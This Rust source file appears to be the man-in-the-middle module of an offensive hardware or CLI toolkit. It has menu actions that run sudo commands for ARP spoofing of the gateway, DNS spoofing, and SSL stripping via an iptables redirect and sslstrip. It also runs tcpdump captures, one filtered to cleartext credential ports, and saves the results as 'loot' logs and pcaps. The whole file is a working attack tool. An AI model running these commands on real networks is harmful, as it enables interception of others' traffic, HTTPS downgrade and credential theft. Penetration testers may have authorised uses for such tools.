//! Man-in-the-middle: ARP/DNS spoofing, SSL strip, traffic captures.

use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::Result;

use opsdeck_core::canvas::{Canvas, Tone};
use opsdeck_core::loot::loot_path;
use opsdeck_core::mode::{draw_header, Ctx, Menu, MenuItem, Mode};
use opsdeck_core::{AlertLevel, PayloadRequest, Settings};

use crate::net;

const STOP_ALL: &str = "sudo pkill -9 arpspoof; sudo pkill -9 dnsspoof; \
sudo pkill -9 sslstrip; sudo pkill -9 tcpdump; \
sudo iptables -t nat -F; sudo sysctl -w net.ipv4.ip_forward=0";

#[derive(Clone, Default)]
struct NetInfo {
    iface: String,
    gateway: String,
    local_ip: String,
}

pub struct MitmMode {
    menu: Mutex<Menu>,
    info: Arc<Mutex<NetInfo>>,
}

impl MitmMode {
    pub fn new(settings: &Settings) -> Arc<Self> {
        let info: Arc<Mutex<NetInfo>> = Arc::new(Mutex::new(NetInfo::default()));
        let items = vec![
            MenuItem::action("●", "ARP Spoof (GW)", {
                let info = Arc::clone(&info);
                move |ctx| {
                    if !enable_ip_forwarding() {
                        ctx.state
                            .add_alert("Failed to enable IP forwarding", AlertLevel::Error);
                        return Ok(());
                    }
                    let snapshot = info.lock().expect("net lock").clone();
                    let outfile = loot_path(&ctx.settings, "mitm", "arp_spoof", "log");
                    ctx.runner.run(PayloadRequest::new(
                        "ARP Spoof",
                        format!(
                            "sudo arpspoof -i {} -t {} -r 2>&1 | tee {}",
                            snapshot.iface,
                            snapshot.gateway,
                            outfile.display()
                        ),
                        Duration::from_secs(ctx.settings.tuning.mitm_timeout_secs + 10),
                    ));
                    Ok(())
                }
            }),
            MenuItem::action("●", "DNS Spoof", {
                let info = Arc::clone(&info);
                move |ctx| {
                    let snapshot = info.lock().expect("net lock").clone();
                    let outfile = loot_path(&ctx.settings, "mitm", "dns_spoof", "log");
                    ctx.runner.run(PayloadRequest::new(
                        "DNS Spoof",
                        format!(
                            "sudo dnsspoof -i {} 2>&1 | tee {}",
                            snapshot.iface,
                            outfile.display()
                        ),
                        Duration::from_secs(ctx.settings.tuning.mitm_timeout_secs + 10),
                    ));
                    Ok(())
                }
            }),
            MenuItem::action("●", "SSL Strip", |ctx| {
                let outfile = loot_path(&ctx.settings, "mitm", "sslstrip", "log");
                ctx.runner.run(PayloadRequest::new(
                    "SSL Strip",
                    format!(
                        "sudo iptables -t nat -A PREROUTING -p tcp --destination-port 80 \
-j REDIRECT --to-port 8080 && sudo sslstrip -l 8080 2>&1 | tee {}",
                        outfile.display()
                    ),
                    Duration::from_secs(ctx.settings.tuning.mitm_timeout_secs + 10),
                ));
                Ok(())
            }),
            capture_item("Packet Capture", "capture", None, &info),
            capture_item("HTTP Capture", "http_capture", Some("port 80 or port 8080"), &info),
            capture_item(
                "Creds Capture",
                "creds_capture",
                Some("port 21 or port 23 or port 25 or port 80 or port 110 or port 143"),
                &info,
            ),
            MenuItem::action("■", "Stop All MITM", |ctx| {
                ctx.runner.run(PayloadRequest::new(
                    "Stop MITM",
                    STOP_ALL,
                    Duration::from_secs(10),
                ));
                Ok(())
            }),
        ];
        Arc::new(Self {
            menu: Mutex::new(Menu::new(items, settings.ui.menu_visible_rows)),
            info,
        })
    }
}

fn capture_item(
    label: &'static str,
    prefix: &'static str,
    filter: Option<&'static str>,
    info: &Arc<Mutex<NetInfo>>,
) -> MenuItem {
    let info = Arc::clone(info);
    MenuItem::action("●", label, move |ctx| {
        let snapshot = info.lock().expect("net lock").clone();
        let outfile = loot_path(&ctx.settings, "mitm", prefix, "pcap");
        let mut command = format!(
            "sudo tcpdump -i {} -w {}",
            snapshot.iface,
            outfile.display()
        );
        if let Some(filter) = filter {
            command.push_str(&format!(" '{filter}'"));
        }
        ctx.runner.run(PayloadRequest::new(
            label,
            command,
            Duration::from_secs(ctx.settings.tuning.capture_timeout_secs + 10),
        ));
        Ok(())
    })
}

fn enable_ip_forwarding() -> bool {
    Command::new("sudo")
        .args(["sysctl", "-w", "net.ipv4.ip_forward=1"])
        .output()
        .map(|output| output.status.success())
        .unwrap_or(false)
}

fn refresh_info(ctx: &Ctx, info: &Arc<Mutex<NetInfo>>) {
    let fresh = NetInfo {
        iface: net::target_interface(ctx),
        gateway: net::default_gateway().unwrap_or_else(|| "192.168.1.1".to_string()),
        local_ip: net::local_ip().unwrap_or_else(|| "N/A".to_string()),
    };
    *info.lock().expect("net lock") = fresh;
}

impl Mode for MitmMode {
    fn name(&self) -> &'static str {
        "MITM"
    }

    fn icon(&self) -> &'static str {
        "🕵"
    }

    fn menu(&self) -> Option<&Mutex<Menu>> {
        Some(&self.menu)
    }

    fn on_enter(&self, ctx: &Ctx) -> Result<()> {
        self.menu.lock().expect("menu lock").reset();
        refresh_info(ctx, &self.info);
        Ok(())
    }

    fn render(&self, ctx: &Ctx, canvas: &mut Canvas) -> Result<()> {
        draw_header(canvas, ctx, "MITM");
        let info = self.info.lock().expect("net lock").clone();
        canvas.pair("IF:", &info.iface, Tone::Info);
        canvas.pair("GW:", &info.gateway, Tone::Highlight);
        canvas.pair("IP:", &info.local_ip, Tone::Dim);
        canvas.menu(&self.menu.lock().expect("menu lock"));
        canvas.footer("K3:Stop all");
        Ok(())
    }

    /// KEY3 tears everything down (when no payload is mid-flight, which
    /// the dispatcher already handles with a cancel).
    fn on_key3(&self, ctx: &Ctx) -> Result<()> {
        ctx.runner.run(PayloadRequest::new(
            "Stop MITM",
            STOP_ALL,
            Duration::from_secs(10),
        ));
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn seven_actions_for_the_cli() {
        let mode = MitmMode::new(&Settings::default());
        let labels = mode.action_labels();
        assert_eq!(labels.len(), 7);
        assert_eq!(labels[0], "ARP Spoof (GW)");
        assert_eq!(labels[6], "Stop All MITM");
    }

    #[test]
    fn stop_all_flushes_nat_and_forwarding() {
        assert!(STOP_ALL.contains("iptables -t nat -F"));
        assert!(STOP_ALL.contains("ip_forward=0"));
    }
}
